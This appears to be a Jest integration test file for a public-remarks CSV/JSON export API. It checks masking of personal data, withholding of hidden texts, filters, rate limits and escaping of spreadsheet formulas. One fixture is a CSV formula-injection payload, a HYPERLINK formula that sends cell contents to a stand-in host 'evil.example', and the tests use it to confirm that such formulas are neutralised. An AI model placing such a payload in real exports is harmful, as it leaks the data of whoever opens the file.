import { parse } from 'csv-parse/sync';
import { LocalizedText } from '../../src/common/i18n/localized-text';
import { ModerationDecision } from '../../src/moderation/moderation-decision.entity';
import { RemarkExportRepository } from '../../src/open-data/export/remark-export.repository';
import type { Plan } from '../../src/plans/plan.entity';
import { Answer } from '../../src/remarks/answer.entity';
import { AnswerVerdict } from '../../src/remarks/answer-verdict.entity';
import type { Remark } from '../../src/remarks/remark.entity';
import type { CreatedUser } from '../support/factories';
import { createUser } from '../support/factories';
import type { TestApp } from '../support/test-app';
import { startTestApp } from '../support/test-app';
import type { World } from '../reviews/fixtures';
import { answerRemark, createPlan, createRemark, createWorld } from '../reviews/fixtures';

/**
 * Issue 17 item 4: GET /api/v1/export/remarks.csv and .json. Every public remark of published plans
 * with its answers, verdicts and moderation state; hidden texts withheld, personal data masked, no
 * author; filters by organization and by the time a row last changed; hostile text escaped.
 */

const API = '/api/v1';
const MARKER = 'HIDDEN-EXPORT-MARKER-9kQ';
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")\nsecond line, with "quotes"; and a semicolon';
const EMAIL = 'aliya.nurlanovna@mail.kz';
const AUTHOR_NAME = 'Aliya Exportova';

const COLUMNS = [
  'remark_id',
  'plan_id',
  'plan_title_kk',
  'plan_title_ru',
  'plan_title_en',
  'organization_id',
  'organization_name_kk',
  'organization_name_ru',
  'organization_name_en',
  'stage',
  'language',
  'created_at',
  'changed_at',
  'answer_due_at',
  'moderation_state',
  'hidden_reason',
  'hidden_at',
  'text',
  'disputes_remark_id',
  'answer_version',
  'answer_disposition',
  'answer_published_at',
  'answer_late',
  'answer_text_kk',
  'answer_text_ru',
  'answer_text_en',
  'correction_reason_kk',
  'correction_reason_ru',
  'correction_reason_en',
  'verdict',
  'verdict_reason',
  'verdict_at',
  'first_answer_published_at',
  'earlier_verdicts',
];

interface JsonRemark {
  remarkId: string;
  planId: string;
  planTitle: Record<string, string | null>;
  organizationId: string;
  organizationName: Record<string, string | null>;
  stage: number;
  language: string;
  createdAt: string;
  changedAt: string;
  answerDueAt: string | null;
  moderation: { state: string; hiddenReason: string | null; hiddenAt: string | null };
  text: string | null;
  answers: {
    version: number;
    text: Record<string, string | null>;
    disposition: string;
    publishedAt: string;
    late: boolean;
    correctionReason: Record<string, string | null> | null;
    verdict: { verdict: string; reason: string | null; at: string } | null;
  }[];
}

describe('bulk export of public remarks (issue 17)', () => {
  let t: TestApp;
  let a: World;
  let b: World;
  let alice: CreatedUser;
  let planA: Plan;
  let planB: Plan;
  let hostile: Remark;
  let hidden: Remark;
  let masked: Remark;
  let other: Remark;
  let draftRemark: Remark;
  let moderator: CreatedUser;

  beforeAll(async () => {
    t = await startTestApp({ now: '2027-03-01T10:00:00+05:00' });
    a = await createWorld(t, 1);
    b = await createWorld(t, 1);
    alice = await createUser(t, 'citizen', { displayName: AUTHOR_NAME, email: 'alice.export@example.test' });
    moderator = await createUser(t, 'moderator');
    planA = await createPlan(t, a);
    planB = await createPlan(t, b, { title: LocalizedText.of({ kk: 'Жол салу', ru: 'Строительство дороги', en: 'Road building' })! });
    const draft = await createPlan(t, a, { publishedAt: null }, false);

    // hostile text, answered, corrected (in kk and ru), a verdict on each version
    hostile = await createRemark(t, planA.id, alice.user.id, { body: HOSTILE, createdAt: new Date('2027-01-10T12:00:00+05:00') });
    const v1 = await answerRemark(t, hostile, a.organizer.user.id, {
      body: '@SUM(1+1) answer one',
      disposition: 'rejected',
      publishedAt: new Date('2027-01-20T10:00:00+05:00'),
      late: true,
    });
    await t.db.getRepository(AnswerVerdict).save({
      answerId: v1.id,
      remarkId: hostile.id,
      planId: planA.id,
      authorId: alice.user.id,
      verdict: 'formal',
      reason: `The answer ignores my point, write to ${EMAIL}`,
      createdAt: new Date('2027-01-21T10:00:00+05:00'),
    });
    const v2 = await t.db.getRepository(Answer).save({
      remarkId: hostile.id,
      version: 2,
      body: LocalizedText.of({ kk: 'Түзетілген жауап', ru: 'Исправленный ответ' })!,
      disposition: 'partially_accepted',
      authorId: a.organizer.user.id,
      publishedAt: new Date('2027-01-22T10:00:00+05:00'),
      late: false,
      correctionReason: LocalizedText.of({ kk: 'Қате', ru: 'Ошибка' })!,
    });
    await t.db.getRepository(AnswerVerdict).save({
      answerId: v2.id,
      remarkId: hostile.id,
      planId: planA.id,
      authorId: alice.user.id,
      verdict: 'reasoned',
      reason: null,
      createdAt: new Date('2027-01-23T10:00:00+05:00'),
    });

    // hidden by a moderator on 2027-02-02
    hidden = await createRemark(t, planA.id, alice.user.id, { body: `${MARKER} insult`, createdAt: new Date('2027-01-11T12:00:00+05:00') });
    const hiddenAt = new Date('2027-02-02T10:00:00+05:00');
    await t.db.query(`UPDATE remarks SET hidden_at = $2, hidden_reason = 'insult' WHERE id = $1`, [hidden.id, hiddenAt]);
    await t.db.getRepository(ModerationDecision).save({
      remarkId: hidden.id,
      planId: planA.id,
      moderatorId: moderator.user.id,
      action: 'hide',
      reason: 'insult',
      note: null,
      appealId: null,
      createdAt: hiddenAt,
    });

    masked = await createRemark(t, planA.id, alice.user.id, {
      body: `Call me on +7 701 234 56 78 or ${EMAIL}`,
      createdAt: new Date('2027-01-12T12:00:00+05:00'),
    });
    other = await createRemark(t, planB.id, alice.user.id, {
      body: 'Қазақша ескерту',
      language: 'kk',
      createdAt: new Date('2027-02-05T12:00:00+05:00'),
    });
    draftRemark = await createRemark(t, draft.id, alice.user.id, { body: 'on a draft', createdAt: new Date('2027-01-13T12:00:00+05:00') });
  });
  afterAll(async () => {
    await t?.close();
  });

  const csvRows = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true, skip_empty_lines: true });

  it('CSV: a header row, UTF-8 with a byte order mark, an attachment, one row per public remark oldest first', async () => {
    const res = await t.http.get(`${API}/export/remarks.csv`).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="remarks.csv"');
    expect(res.text.charCodeAt(0)).toBe(0xfeff);
    const [header]: string[][] = parse(res.text, { bom: true, to_line: 1 });
    expect(header).toEqual(COLUMNS);
    const rows = csvRows(res.text);
    expect(rows.map((r) => r.remark_id)).toEqual([hostile.id, hidden.id, masked.id, other.id]);
    expect(rows.map((r) => r.remark_id)).not.toContain(draftRemark.id);
  });

  it('CSV: the answer, its correction and the verdicts; hostile text quoted and neutralised', async () => {
    const rows = csvRows((await t.http.get(`${API}/export/remarks.csv`).expect(200)).text);
    const row = rows.find((r) => r.remark_id === hostile.id)!;
    expect(row).toMatchObject({
      plan_id: planA.id,
      plan_title_kk: '№5 мектепті жөндеу',
      plan_title_ru: 'Ремонт школы №5',
      plan_title_en: '',
      organization_id: a.organization.id,
      stage: '1',
      language: 'ru',
      created_at: '2027-01-10T07:00:00.000Z',
      changed_at: '2027-01-23T05:00:00.000Z',
      moderation_state: 'visible',
      hidden_reason: '',
      answer_version: '2',
      answer_disposition: 'partially_accepted',
      answer_published_at: '2027-01-22T05:00:00.000Z',
      answer_late: 'false',
      answer_text_kk: 'Түзетілген жауап',
      answer_text_ru: 'Исправленный ответ',
      correction_reason_ru: 'Ошибка',
      verdict: 'reasoned',
      verdict_reason: '',
      verdict_at: '2027-01-23T05:00:00.000Z',
      first_answer_published_at: '2027-01-20T05:00:00.000Z',
      earlier_verdicts: '1:formal',
    });
    expect(row.organization_name_ru).toBeTruthy();
    // the text comes back whole, with a quote mark before every place a spreadsheet could start a formula
    expect(row.text).toBe(`'${HOSTILE}`);
    expect(row.text.startsWith("'=")).toBe(true);
    expect(row.text).toContain('\nsecond line, with "quotes"');
  });

  it('CSV: a formula at the start of a cell after a separator or line break is neutralised too', async () => {
    const res = await t.http.get(`${API}/export/remarks.csv`).expect(200);
    // no line of the file (a spreadsheet's row after splitting) and no cell begins with a formula character
    for (const line of res.text.replace(/^\uFEFF/, '').split(/\r?\n/)) {
      for (const cell of line.split(/[,;]/)) expect(cell.replace(/^[\s"]*/, '')).not.toMatch(/^[=+\-@]/);
    }
  });

  it('CSV: the hidden remark has no text, the masked one masked, and no author anywhere', async () => {
    const res = await t.http.get(`${API}/export/remarks.csv`).expect(200);
    expect(res.text).not.toContain(MARKER);
    expect(res.text).not.toContain(EMAIL);
    expect(res.text).not.toContain(AUTHOR_NAME);
    expect(res.text).not.toContain(alice.user.id);
    expect(res.text).not.toContain('alice.export');
    const rows = csvRows(res.text);
    expect(rows.find((r) => r.remark_id === hidden.id)).toMatchObject({
      text: '',
      moderation_state: 'hidden',
      hidden_reason: 'insult',
      hidden_at: '2027-02-02T05:00:00.000Z',
      changed_at: '2027-02-02T05:00:00.000Z',
      // a hidden remark needs no answer: no deadline while hidden (src/remarks/answer-duty.ts)
      answer_due_at: '',
    });
    expect(rows.find((r) => r.remark_id === masked.id)!.answer_due_at).toMatch(/^2027-\d\d-\d\dT/);
    const m = rows.find((r) => r.remark_id === masked.id)!;
    expect(m.moderation_state).toBe('masked');
    expect(m.text).toContain('•••@•••');
    expect(m.text).not.toContain('234 56 78');
  });

  it('JSON: one valid array, the same remarks with every answer version and its verdict, texts as the public reads them', async () => {
    const res = await t.http.get(`${API}/export/remarks.json`).expect(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="remarks.json"');
    expect(res.text).not.toContain(MARKER);
    expect(res.text).not.toContain(EMAIL);
    expect(res.text).not.toContain(AUTHOR_NAME);
    expect(res.text).not.toContain(alice.user.id);
    const rows = JSON.parse(res.text) as JsonRemark[];
    expect(rows.map((r) => r.remarkId)).toEqual([hostile.id, hidden.id, masked.id, other.id]);
    const h = rows[0];
    expect(h.text).toBe(HOSTILE);
    expect(h.planTitle).toEqual({ kk: '№5 мектепті жөндеу', ru: 'Ремонт школы №5', en: null });
    expect(h.answers).toEqual([
      {
        version: 2,
        text: { kk: 'Түзетілген жауап', ru: 'Исправленный ответ', en: null },
        disposition: 'partially_accepted',
        publishedAt: '2027-01-22T05:00:00.000Z',
        late: false,
        correctionReason: { kk: 'Қате', ru: 'Ошибка', en: null },
        verdict: { verdict: 'reasoned', reason: null, at: '2027-01-23T05:00:00.000Z' },
      },
      {
        version: 1,
        text: { kk: null, ru: '@SUM(1+1) answer one', en: null },
        disposition: 'rejected',
        publishedAt: '2027-01-20T05:00:00.000Z',
        late: true,
        correctionReason: null,
        verdict: { verdict: 'formal', reason: 'The answer ignores my point, write to •••@•••', at: '2027-01-21T05:00:00.000Z' },
      },
    ]);
    expect(rows[1]).toMatchObject({
      text: null,
      answerDueAt: null,
      moderation: { state: 'hidden', hiddenReason: 'insult', hiddenAt: '2027-02-02T05:00:00.000Z' },
    });
    expect(rows[2].answerDueAt).toEqual(expect.stringMatching(/^2027-\d\d-\d\dT/));
    expect(rows[2].moderation).toEqual({ state: 'masked', hiddenReason: null, hiddenAt: null });
    expect(rows[3]).toMatchObject({
      planId: planB.id,
      organizationId: b.organization.id,
      planTitle: { en: 'Road building' },
      language: 'kk',
      moderation: { state: 'visible' },
      text: 'Қазақша ескерту',
      answers: [],
    });
    for (const r of rows) expect(Object.keys(r)).not.toEqual(expect.arrayContaining(['authorId']));
  });

  it('CSV with ?separator=semicolon (Excel in a Russian or Kazakh locale): the same cells split on semicolons; other names are 400, and JSON takes none', async () => {
    const comma = (await t.http.get(`${API}/export/remarks.csv`).expect(200)).text;
    const res = await t.http.get(`${API}/export/remarks.csv?separator=semicolon`).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.text.split('\r\n')[0]).toBe('\uFEFF' + COLUMNS.join(';'));
    const cells = (text: string, delimiter: string): string[][] => parse(text, { bom: true, delimiter });
    expect(cells(res.text, ';')).toEqual(cells(comma, ','));
    // the hostile text (commas, semicolons, quotes, a line break) reads back whole, formula still guarded
    const hostileRow = csvRows(comma).find((r) => r.remark_id === hostile.id)!;
    const semicolonRows: Record<string, string>[] = parse(res.text, { bom: true, columns: true, delimiter: ';' });
    expect(semicolonRows.find((r) => r.remark_id === hostile.id)).toEqual(hostileRow);
    expect(hostileRow.text.startsWith("'=HYPERLINK")).toBe(true);
    const explicit = await t.http.get(`${API}/export/remarks.csv?separator=comma`).expect(200);
    expect(explicit.text).toBe(comma);

    const bad = await t.http.get(`${API}/export/remarks.csv?separator=tab`).set('Accept-Language', 'kk').expect(400);
    expect(bad.body.error.code).toBe('VALIDATION_FAILED');
    expect(bad.body.error.details).toEqual([
      expect.objectContaining({ field: 'separator', message: expect.stringContaining('рұқсат етілмеген') }),
    ]);
    const json = await t.http.get(`${API}/export/remarks.json?separator=semicolon`).set('Accept-Language', 'en').expect(400);
    expect(json.body.error.details).toEqual([expect.objectContaining({ field: 'separator' })]);
  });

  it('organizationId keeps that organization’s plans; an unknown one is 404, a malformed one 400', async () => {
    const json = await t.http.get(`${API}/export/remarks.json?organizationId=${b.organization.id}`).expect(200);
    expect((JSON.parse(json.text) as JsonRemark[]).map((r) => r.remarkId)).toEqual([other.id]);
    const csv = await t.http.get(`${API}/export/remarks.csv?organizationId=${a.organization.id}`).expect(200);
    expect(csvRows(csv.text).map((r) => r.remark_id)).toEqual([hostile.id, hidden.id, masked.id]);
    const unknown = await t.http.get(`${API}/export/remarks.csv?organizationId=00000000-0000-4000-8000-000000000000`).expect(404);
    expect(unknown.body.error.code).toBe('ORGANIZATION_NOT_FOUND');
    const bad = await t.http.get(`${API}/export/remarks.json?organizationId=x`).expect(400);
    expect(bad.body.error.code).toBe('VALIDATION_FAILED');
  });

  it('since keeps the remarks created, answered, judged or moderated at or after it', async () => {
    const ids = async (since: string) =>
      (JSON.parse((await t.http.get(`${API}/export/remarks.json`).query({ since }).expect(200)).text) as JsonRemark[]).map(
        (r) => r.remarkId,
      );
    // a verdict on 2027-01-23 counts; the remark of 2027-01-12 (never changed) does not
    expect(await ids('2027-01-23T10:00:00+05:00')).toEqual([hostile.id, hidden.id, other.id]);
    // the hide decision of 2027-02-02 and the remark of 2027-02-05
    expect(await ids('2027-01-23T10:00:01+05:00')).toEqual([hidden.id, other.id]);
    expect(await ids('2027-02-05T12:00:00+05:00')).toEqual([other.id]);
    // now (the clock's 2027-03-01T10:00+05:00): nothing changed since, an empty file
    const empty = await t.http.get(`${API}/export/remarks.json`).query({ since: '2027-03-01T10:00:00+05:00' }).expect(200);
    expect(JSON.parse(empty.text)).toEqual([]);
    const emptyCsv = await t.http.get(`${API}/export/remarks.csv`).query({ since: '2027-03-01T05:00:00Z' }).expect(200);
    expect(emptyCsv.text).toBe('\uFEFF' + COLUMNS.join(',') + '\r\n');
    const bad = await t.http.get(`${API}/export/remarks.csv?since=yesterday`).expect(400);
    expect(bad.body.error.code).toBe('VALIDATION_FAILED');
  });

  it('refuses a since later than now (the clock’s), in the reader’s language: 400 VALIDATION_FAILED on since', async () => {
    for (const since of ['2027-03-01T10:00:01+05:00', '2030-01-01T00:00:00Z']) {
      for (const format of ['csv', 'json']) {
        const res = await t.http.get(`${API}/export/remarks.${format}`).query({ since }).set('Accept-Language', 'en').expect(400);
        expect(res.body.error.code).toBe('VALIDATION_FAILED');
        expect(res.body.error.message).toContain('since must not be later than now');
      }
    }
    const ru = await t.http.get(`${API}/export/remarks.json?since=2030-01-01T00:00:00Z`).set('Accept-Language', 'ru').expect(400);
    expect(ru.body.error.message).toContain('не может быть позже текущего момента');
  });

  it('a batch statement past its time limit (here: waiting for a lock) is cancelled: 503 SERVICE_UNAVAILABLE, not a hang', async () => {
    const repository = t.app.get(RemarkExportRepository);
    const locker = t.db.createQueryRunner();
    await locker.connect();
    await locker.startTransaction();
    repository.statementTimeoutMs = 300;
    try {
      await locker.query('LOCK TABLE remarks IN ACCESS EXCLUSIVE MODE');
      const started = Date.now();
      const res = await t.http.get(`${API}/export/remarks.json`).set('X-Forwarded-For', '198.51.100.77').expect(503);
      expect(res.body.error.code).toBe('SERVICE_UNAVAILABLE');
      expect(res.headers['retry-after']).toBe('60');
      expect(Date.now() - started).toBeLessThan(5000);
    } finally {
      await locker.rollbackTransaction();
      await locker.release();
      repository.statementTimeoutMs = 30_000;
    }
    await t.http.get(`${API}/export/remarks.json`).set('X-Forwarded-For', '198.51.100.77').expect(200);
  });

  it('counts IPv6 clients by their /64 network, IPv4-mapped addresses as the IPv4 address', async () => {
    const before = t.config.openData.exportsPerHour;
    t.config.openData.exportsPerHour = 2;
    try {
      const from = (ip: string) => t.http.get(`${API}/export/remarks.json`).set('X-Forwarded-For', ip);
      await from('2001:db8:aa:1::7').expect(200);
      await from('2001:db8:aa:1:ffff:1234:5678:9abc').expect(200);
      const refused = await from('2001:0db8:00aa:0001::1').expect(429);
      expect(refused.body.error.code).toBe('RATE_LIMITED');
      await from('2001:db8:aa:2::7').expect(200);
      await from('192.0.2.44').expect(200);
      await from('::ffff:192.0.2.44').expect(200);
      await from('192.0.2.44').expect(429);
    } finally {
      t.config.openData.exportsPerHour = before;
    }
  });

  it('EXPORT_RATE_PER_HOUR exports per client address per hour, then 429 with Retry-After; other addresses go on', async () => {
    const before = t.config.openData.exportsPerHour;
    t.config.openData.exportsPerHour = 2;
    try {
      const from = (ip: string) => t.http.get(`${API}/export/remarks.json`).set('X-Forwarded-For', ip);
      await from('203.0.113.7').expect(200);
      await from('203.0.113.7').expect(200);
      const refused = await from('203.0.113.7').expect(429);
      expect(refused.body.error.code).toBe('RATE_LIMITED');
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(3500);
      await from('203.0.113.8').expect(200);
    } finally {
      t.config.openData.exportsPerHour = before;
    }
  });

  it('changed_at counts only decisions that changed what the public sees: a keep on a visible remark does not, a restore does', async () => {
    const decision = (remarkId: string, action: 'hide' | 'keep', createdAt: string) =>
      t.db.getRepository(ModerationDecision).save({
        remarkId,
        planId: planA.id,
        moderatorId: moderator.user.id,
        action,
        reason: null,
        note: 'Reviewed a report.',
        appealId: null,
        createdAt: new Date(createdAt),
      });
    const json = async (since?: string) =>
      JSON.parse(
        (
          await t.http
            .get(`${API}/export/remarks.json`)
            .query(since ? { since } : {})
            .expect(200)
        ).text,
      ) as JsonRemark[];
    // reported and kept public on 2027-02-10: staff-only history, nothing public changed
    await decision(masked.id, 'keep', '2027-02-10T10:00:00+05:00');
    const kept = (await json()).find((r) => r.remarkId === masked.id)!;
    expect(kept.changedAt).toBe('2027-01-12T07:00:00.000Z');
    const keptCsv = csvRows((await t.http.get(`${API}/export/remarks.csv`).expect(200)).text).find((r) => r.remark_id === masked.id)!;
    expect(keptCsv.changed_at).toBe('2027-01-12T07:00:00.000Z');
    expect((await json('2027-02-10T10:00:00+05:00')).map((r) => r.remarkId)).not.toContain(masked.id);

    // the hidden remark restored on 2027-02-12: the public reads it again, so it changed
    await decision(hidden.id, 'keep', '2027-02-12T10:00:00+05:00');
    await t.db.query(`UPDATE remarks SET hidden_at = NULL, hidden_reason = NULL WHERE id = $1`, [hidden.id]);
    const restored = (await json('2027-02-12T10:00:00+05:00')).find((r) => r.remarkId === hidden.id)!;
    expect(restored.changedAt).toBe('2027-02-12T05:00:00.000Z');
    // a second keep on the now visible remark changes nothing public
    await decision(hidden.id, 'keep', '2027-02-14T10:00:00+05:00');
    expect((await json()).find((r) => r.remarkId === hidden.id)!.changedAt).toBe('2027-02-12T05:00:00.000Z');
  });
});
